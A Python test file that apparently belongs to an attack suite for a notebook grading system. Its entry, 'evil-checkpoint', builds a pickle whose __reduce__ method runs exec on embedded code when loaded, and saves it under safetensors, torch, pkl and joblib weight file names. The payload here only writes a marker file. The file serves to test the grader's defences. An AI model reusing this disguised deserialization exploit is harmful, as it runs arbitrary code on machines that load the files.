"""Weights beside the notebook that are a pickle, in the place of safetensors."""

import pickle
from pathlib import Path

ATTACK = {
    "number": 51,
    "name": "evil-checkpoint",
    "tries": "To run code in whoever loads the weights that were handed in: a pickle under the "
    "name that the assignment asks for, and under names that torch and joblib load.",
    "must": "load weights in the student's room only, and keep them as bytes elsewhere.",
    "standing": "graded",
    "otter": "it would run the attack's code on the machine of whoever checks it",
    "needs": "",
}
NOTEBOOK = Path(__file__).parents[1] / "target" / "wrong.ipynb"
CODE = """
import pathlib
mark = pathlib.Path.home() / "attack-51-was-here"
mark.write_text("code of a student's ran here")
"""


class Payload:
    """Whoever loads its pickle runs the code."""

    def __reduce__(self):
        return exec, (CODE,)


def submission() -> dict[str, bytes]:
    """The notebook and four files that are the same pickle."""
    evil = pickle.dumps({"weight": Payload()})
    names = ("weights.safetensors", "weights.pt", "model.pkl", "model.joblib")
    return {"target.ipynb": NOTEBOOK.read_bytes()} | {name: evil for name in names}
